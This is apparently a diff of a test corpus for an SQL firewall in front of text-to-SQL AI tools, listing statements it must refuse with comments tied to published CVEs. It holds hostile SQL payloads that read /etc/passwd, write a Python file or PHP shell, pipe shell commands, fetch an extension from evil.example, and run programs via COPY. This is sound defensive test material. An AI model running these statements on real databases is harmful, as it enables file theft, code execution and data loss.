@@ -1,85 +1,87 @@
 # Statements that the firewall must refuse, each with where the idea came from and the code that it
-# must be refused with. The form is explained in tests/unit/sql_corpus.h.
+# must be refused with. The form is explained in tests/unit/sql_corpus.h. A CVE number stands only
+# where published advisories were found that name the product and the effect written beside it; what
+# comes after "here" is our own idea and not the advisory's.
 
-# LlamaIndex text-to-SQL, CVE-2024-23751 (issue 9957): any statement of the model was run
+# LlamaIndex, CVE-2024-23751 (its issue 9957): a question in plain English makes text-to-SQL drop tables
 = statement_not_allowed
 DROP TABLE customers
 
-# LlamaIndex text-to-SQL, CVE-2024-23751 (issue 9957): any statement of the model was run
+# LlamaIndex, CVE-2024-23751 (its issue 9957): a question in plain English makes text-to-SQL drop tables
 = statement_not_allowed
 DELETE FROM orders
 
-# LlamaIndex text-to-SQL, CVE-2024-23751 (issue 9957): any statement of the model was run
+# LlamaIndex, CVE-2024-23751 (its issue 9957): a question in plain English makes text-to-SQL drop tables
 = statement_not_allowed
 INSERT INTO staff VALUES (1, 'x', 'y', 'z', 1, NULL, NULL, 1)
 
-# LlamaIndex text-to-SQL, CVE-2024-23751 (issue 9957): any statement of the model was run
+# LlamaIndex, CVE-2024-23751 (its issue 9957): a question in plain English makes text-to-SQL drop tables
 = statement_not_allowed
 UPDATE staff SET salary = 1000000 WHERE full_name = 'Ana'
 
-# LangChain SQLDatabaseChain, CVE-2023-36189: a question that asks for a second statement
+# LangChain, CVE-2023-36189: SQL injection through SQLDatabaseChain; here a second statement
 = many_statements
 SELECT * FROM customers; DROP TABLE customers
 
-# LangChain SQLDatabaseChain, CVE-2023-36189: a question that asks for a second statement
+# LangChain, CVE-2023-36189: SQL injection through SQLDatabaseChain; here a second statement
 = many_statements
 SELECT name FROM customers; SELECT full_name, salary FROM staff
 
-# Vanna, CVE-2024-7764: a semicolon between the model's SQL and the asker's
+# Vanna 0.3.4, CVE-2024-5753: SQL with pg_read_file() reads files; here behind a semicolon
 = many_statements
 SELECT name FROM customers WHERE city = 'Porto'; SELECT pg_read_file('/etc/passwd')
 
-# Vanna, CVE-2024-7764: a semicolon between the model's SQL and the asker's
+# A semicolon between the model's SQL and the asker's
 = empty
 ~ another spelling of what is allowed
 ;SELECT 1
 
-# Vanna, CVE-2024-7764: a semicolon between the model's SQL and the asker's
+# A semicolon between the model's SQL and the asker's
 = many_statements
 ~ another spelling of what is allowed
 SELECT 1;;
 
-# Vanna, CVE-2024-7764: a semicolon between the model's SQL and the asker's
+# A semicolon between the model's SQL and the asker's
 = empty
 ; 
 
-# Vanna, CVE-2026-4230: SQL given by the caller, run as it is
+# Vanna up to 2.0.2, CVE-2026-4230: SQL injection through update_sql; here statements of the caller's own
 = statement_not_allowed
 CREATE TABLE stolen AS SELECT * FROM staff
 
-# Vanna, CVE-2026-4230: SQL given by the caller, run as it is
+# Vanna up to 2.0.2, CVE-2026-4230: SQL injection through update_sql; here statements of the caller's own
 = statement_not_allowed
 CREATE OR REPLACE VIEW customers AS SELECT * FROM staff
 
-# Vanna, CVE-2026-4230: SQL given by the caller, run as it is
+# Vanna up to 2.0.2, CVE-2026-4230: SQL injection through update_sql; here statements of the caller's own
 = statement_not_allowed
 ALTER TABLE staff ADD COLUMN note VARCHAR
 
-# Vanna, CVE-2026-4230: SQL given by the caller, run as it is
+# Vanna up to 2.0.2, CVE-2026-4230: SQL injection through update_sql; here statements of the caller's own
 = statement_not_allowed
 TRUNCATE orders
 
-# DB-GPT, CVE-2024-10835 and CVE-2024-10901: files written through DuckDB from an SQL editor
+# DB-GPT, CVE-2024-10835 and CVE-2024-10901: any SQL is run by the editor's API, files are written by DuckDB
 = statement_not_allowed
 COPY (SELECT * FROM customers) TO '/tmp/stolen.csv'
 
-# DB-GPT, CVE-2024-10835 and CVE-2024-10901: files written through DuckDB from an SQL editor
+# DB-GPT, CVE-2024-10835 and CVE-2024-10901: any SQL is run by the editor's API, files are written by DuckDB
 = statement_not_allowed
 COPY customers FROM '/etc/passwd'
 
-# DB-GPT, CVE-2024-10835 and CVE-2024-10901: files written through DuckDB from an SQL editor
+# DB-GPT, CVE-2024-10835 and CVE-2024-10901: any SQL is run by the editor's API, files are written by DuckDB
 = statement_not_allowed
 COPY (SELECT 'import os') TO '/usr/lib/python3/evil.py' (FORMAT csv, HEADER false)
 
-# DB-GPT, CVE-2024-10835 and CVE-2024-10901: files written through DuckDB from an SQL editor
+# DB-GPT, CVE-2024-10835 and CVE-2024-10901: any SQL is run by the editor's API, files are written by DuckDB
 = statement_not_allowed
 EXPORT DATABASE '/tmp/all'
 
-# DB-GPT, CVE-2024-10835 and CVE-2024-10901: files written through DuckDB from an SQL editor
+# DB-GPT, CVE-2024-10835 and CVE-2024-10901: any SQL is run by the editor's API, files are written by DuckDB
 = statement_not_allowed
 IMPORT DATABASE '/tmp/all'
 
-# DB-GPT, CVE-2024-10835 and CVE-2024-10901: files written through DuckDB from an SQL editor
+# DB-GPT, CVE-2024-10835 and CVE-2024-10901: any SQL is run by the editor's API, files are written by DuckDB
 = function_reads_files
 SELECT * FROM read_csv_auto('/etc/passwd')
 
@@ -103,67 +105,67 @@ SELECT * FROM main.read_text('/etc/passwd')
 = function_reads_files
 SELECT * FROM system.main.read_text('/etc/passwd')
 
-# Grafana SQL expressions, CVE-2024-9264: DuckDB's command line and community extensions
+# Grafana SQL expressions, CVE-2024-9264: commands run and files read through DuckDB
 = statement_not_allowed
 INSTALL shellfs FROM community
 
-# Grafana SQL expressions, CVE-2024-9264: DuckDB's command line and community extensions
+# Grafana SQL expressions, CVE-2024-9264: commands run and files read through DuckDB
 = statement_not_allowed
 LOAD shellfs
 
-# Grafana SQL expressions, CVE-2024-9264: DuckDB's command line and community extensions
+# Grafana SQL expressions, CVE-2024-9264: commands run and files read through DuckDB
 = function_reads_files
 SELECT * FROM read_csv('cat /etc/passwd |')
 
-# Grafana SQL expressions, CVE-2024-9264: DuckDB's command line and community extensions
+# Grafana SQL expressions, CVE-2024-9264: commands run and files read through DuckDB
 = statement_not_allowed
 INSTALL 'http://evil.example/x.duckdb_extension'
 
-# Grafana SQL expressions, CVE-2024-9264: DuckDB's command line and community extensions
+# Grafana SQL expressions, CVE-2024-9264: commands run and files read through DuckDB
 = statement_not_allowed
 FORCE INSTALL httpfs
 
-# DuckDB, CVE-2024-41672: sniff_csv read files although external access was off
+# DuckDB before 1.1.0, CVE-2024-41672: sniff_csv reads files although external access is off
 = function_reads_files
 SELECT * FROM sniff_csv('/etc/passwd')
 
-# DuckDB, CVE-2024-41672: sniff_csv read files although external access was off
+# DuckDB before 1.1.0, CVE-2024-41672: sniff_csv reads files although external access is off
 = function_reads_files
 SELECT Prompt FROM sniff_csv('/etc/hosts')
 
-# DuckDB, CVE-2024-22682: extensions of one's own
+# DuckDB up to 0.9.2, CVE-2024-22682 (disputed by DuckDB): a malicious extension is brought in
 = statement_not_allowed
 LOAD '/tmp/evil.duckdb_extension'
 
-# LlamaIndex DuckDBVectorStore, CVE-2025-1750: SQL in a key
+# LlamaIndex DuckDBVectorStore, CVE-2025-1750: SQL in ref_doc_id reads and writes files
 = comment_not_allowed
 SELECT * FROM customers WHERE name = 'x'; COPY customers TO '/tmp/x'; --'
 
-# LlamaIndex FinanceChat pack, CVE-2024-12909: PostgreSQL large objects
+# LlamaIndex FinanceChatLlamaPack, CVE-2024-12909: code is run by means of PostgreSQL's large objects
 = function_reads_files
 SELECT lo_import('/etc/passwd')
 
-# LlamaIndex FinanceChat pack, CVE-2024-12909: PostgreSQL large objects
+# LlamaIndex FinanceChatLlamaPack, CVE-2024-12909: code is run by means of PostgreSQL's large objects
 = function_reads_files
 SELECT lo_export(16384, '/tmp/evil.so')
 
-# LlamaIndex FinanceChat pack, CVE-2024-12909: PostgreSQL large objects
+# LlamaIndex FinanceChatLlamaPack, CVE-2024-12909: code is run by means of PostgreSQL's large objects
 = function_reads_files
 SELECT lo_from_bytea(0, 'x')
 
-# LlamaIndex JSONalyze, CVE-2024-12911: SQLite's ATTACH makes files
+# LlamaIndex JSONalyzeQueryEngine, CVE-2024-12911: SQL injection makes files; here by ATTACH
 = statement_not_allowed
 ATTACH DATABASE '/var/www/shell.php' AS shell
 
-# LlamaIndex JSONalyze, CVE-2024-12911: SQLite's ATTACH makes files
+# LlamaIndex JSONalyzeQueryEngine, CVE-2024-12911: SQL injection makes files; here by ATTACH
 = statement_not_allowed
 ATTACH 'postgres://evil.example/db' AS pg (TYPE postgres)
 
-# LlamaIndex JSONalyze, CVE-2024-12911: SQLite's ATTACH makes files
+# LlamaIndex JSONalyzeQueryEngine, CVE-2024-12911: SQL injection makes files; here by ATTACH
 = statement_not_allowed
 DETACH customers
 
-# Aix-DB (issue 203) and PostgreSQL, CVE-2019-9193: a program as the source of COPY
+# Aix-DB (issue 203) and PostgreSQL 9.3 to 11.2, CVE-2019-9193 (disputed): a program as the source of COPY
 = statement_not_allowed
 COPY staff FROM PROGRAM 'id'
 
